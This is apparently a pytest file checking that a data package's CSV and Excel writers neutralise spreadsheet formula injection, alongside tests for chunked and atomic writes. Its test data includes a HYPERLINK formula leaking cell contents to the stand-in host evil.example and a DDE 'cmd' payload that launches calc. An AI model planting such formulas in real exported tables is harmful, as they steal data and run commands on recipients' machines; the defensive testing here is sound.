"""Output safety (issue #15): no table written here runs as a formula when opened in a spreadsheet."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from mmn_ddx.data.writers import FORMULA_PREFIXES, TableWriter, spreadsheet_safe, write_table

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _frame() -> pd.DataFrame:
    return pd.DataFrame({
        "patient_id": pd.array([ATTACK, "+1x", "-x", "@SUM(A1)", "\tx", "\rx", "plain", None], dtype="string"),
        "value": [-1.5, 2.0, -3.0, np.nan, 0.0, 1.0, -7.0, 4.0],
        "category": pd.Categorical(["=1+2", "a", "a", "a", "a", "a", "a", None]),
    })


def test_spreadsheet_safe_prefixes_every_executable_text_and_keeps_numbers() -> None:
    safe = spreadsheet_safe(_frame())
    ids = safe["patient_id"].tolist()
    assert ids[:6] == ["'" + text for text in (ATTACK, "+1x", "-x", "@SUM(A1)", "\tx", "\rx")]
    assert ids[6] == "plain" and pd.isna(ids[7])
    assert safe["value"].dtype == np.float64 and safe["value"].iloc[0] == -1.5  # a negative number is not text
    assert safe["category"].iloc[0] == "'=1+2"
    assert all(not str(v).startswith(FORMULA_PREFIXES) for v in safe["patient_id"].dropna())


PLAIN_NUMBERS = ["-17", "-0.5", "+3", "-.5", "17.", "-007", "+0.25"]
FORMULAS = ["-1+2", "-2+3+cmd|' /C calc'!A0", "-1e3", "- 1", "-1.2.3", "-17\n", "-\u0661\u0667", "+A1", "-",
            "-.", "+-1", "-SUM(A1:A2)"]


def test_text_that_is_a_plain_number_is_written_as_it_is() -> None:
    """A patient_id "-17" was written "'-17" by predict -o, and no longer joined with its input; a sign, digits and
    one decimal point cannot run as a formula. Anything more, after a sign, is still prefixed."""
    frame = pd.DataFrame({"patient_id": pd.array(PLAIN_NUMBERS + FORMULAS, dtype="string"),
                          "category": pd.Categorical(PLAIN_NUMBERS + FORMULAS)})
    safe = spreadsheet_safe(frame)
    for column in safe:
        assert safe[column].tolist()[:len(PLAIN_NUMBERS)] == PLAIN_NUMBERS
        assert safe[column].tolist()[len(PLAIN_NUMBERS):] == ["'" + text for text in FORMULAS]


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    path = write_table(_frame(), tmp_path / "out.csv")
    with path.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert rows[0]["patient_id"] == "'" + ATTACK
    assert rows[0]["value"] == "-1.5"  # numbers stay numbers
    assert all(not row["patient_id"].startswith(FORMULA_PREFIXES) for row in rows)


def test_xlsx_never_holds_a_formula_and_numbers_stay_numbers(tmp_path: Path) -> None:
    frame = _frame()
    frame.loc[6, "patient_id"] = "control\x01char"
    path = write_table(frame, tmp_path / "out.xlsx")
    sheet = openpyxl.load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert sheet["A2"].value == "'" + ATTACK
    assert sheet["B2"].value == -1.5 and sheet["B2"].data_type == "n"
    assert sheet["A8"].value == "control_x0001_char"  # an illegal XML character, escaped as OOXML does


def test_parquet_and_jsonl_keep_text_as_it_is(tmp_path: Path) -> None:
    assert pd.read_parquet(write_table(_frame(), tmp_path / "out.parquet"))["patient_id"].iloc[0] == ATTACK


@pytest.mark.parametrize("suffix", [".csv", ".parquet", ".jsonl", ".xlsx"])
def test_a_table_written_in_chunks_equals_one_written_at_once(tmp_path: Path, suffix: str) -> None:
    frame = pd.DataFrame({"patient_id": [f"P{i}" for i in range(10)], "p": np.linspace(0, 1, 10),
                          "note": [None] * 5 + ["x"] * 5})
    with TableWriter(tmp_path / f"chunks{suffix}") as writer:
        for start in range(0, 10, 5):
            writer.write(frame.iloc[start:start + 5])
    whole = write_table(frame, tmp_path / f"whole{suffix}")
    read = {".csv": pd.read_csv, ".parquet": pd.read_parquet, ".xlsx": pd.read_excel,
            ".jsonl": lambda p: pd.read_json(p, lines=True)}[suffix]
    pd.testing.assert_frame_equal(read(tmp_path / f"chunks{suffix}"), read(whole))


def test_a_failed_write_leaves_no_file(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    with pytest.raises(RuntimeError), TableWriter(path) as writer:
        writer.write(_frame())
        raise RuntimeError("an invalid row found later")
    assert not path.exists() and not list(tmp_path.iterdir())


def test_a_csv_text_cell_with_a_line_break_reads_back_as_one_row(tmp_path: Path) -> None:
    """The csv module quotes only the line terminator's characters: written with "\\n", a carriage return
    inside a cell was left bare and the reader split the row there."""
    from mmn_ddx.data import generate_cohort, read_cohort

    cohort = generate_cohort(3, seed=1).assign(patient_id=["a\rb", "c\nd", "e\r\nf"])
    result = read_cohort(write_table(cohort, tmp_path / "cohort.csv"))
    assert result.rejections.empty
    assert result.valid["patient_id"].tolist() == ["a\rb", "c\nd", "e\r\nf"]
